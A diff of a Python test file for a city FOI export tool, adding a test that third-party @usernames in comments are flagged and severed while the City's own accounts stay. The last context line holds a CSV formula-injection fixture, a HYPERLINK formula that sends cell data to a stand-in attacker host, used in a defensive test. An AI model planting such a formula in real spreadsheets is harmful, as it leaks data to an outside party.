@@ -1408,6 +1408,32 @@ def test_a_redacted_foi_export_severs_an_x_commenters_handle(
     assert "@[severed: FOIPPA s.22, username of a third party] @CityofTrail Laurel" in severed
 
 
+def test_an_account_a_comment_mentions_is_flagged_though_its_owner_never_commented(
+    tmp_path: Path,
+) -> None:
+    """An @username in a comment leads to a person as surely as their name, also one who
+    wrote nothing here (`@sam_oneil`, tagged by a neighbour); the City's own accounts
+    (policy/public-contacts.yml, and those its answers came from) and email addresses are
+    not mentions of a third party."""
+    records = tmp_path / "records"
+    x = {"platform": "twitter", "post_id": "p9"}
+    _add_comment(records, "t1", "@CityofTrail @sam_oneil's driveway floods too, ask him "
+                 "or info@trail.ca", "2026-11-24T18:00:00+00:00", "Casey D.", author_id="1700",
+                 author_username="caseyd88", **x)  # fmt: skip
+    _add_comment(records, "t2", "@caseyd88 @TrailWorks we will look at it",
+                 "2026-11-24T18:05:00+00:00", "City of Trail", author_id="1",
+                 author_username="TrailWorks", by_city=True, parent_id="t1", **x)  # fmt: skip
+    out = tmp_path / "foi"
+    export(records, ROOT, "FOI-2026-040", ["floods"], out, redact=True)
+    report = (out / "report.html").read_text()
+    flagged = set(re.findall(r"<td>username</td><td>([^<]*)</td>", report))
+    assert flagged == {"sam_oneil", "caseyd88"}, flagged
+    severed = (out / "redacted" / "records.json").read_text()
+    assert "sam_oneil" not in severed and "caseyd88" not in severed
+    assert "@[severed: FOIPPA s.22, username of a third party]'s driveway" in severed
+    assert "@CityofTrail" in severed and "@TrailWorks" in severed and "info@trail.ca" in severed
+
+
 def test_the_foi_csv_shows_cells_that_start_like_a_formula_as_text(tmp_path: Path) -> None:
     records = tmp_path / "records"
     link = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
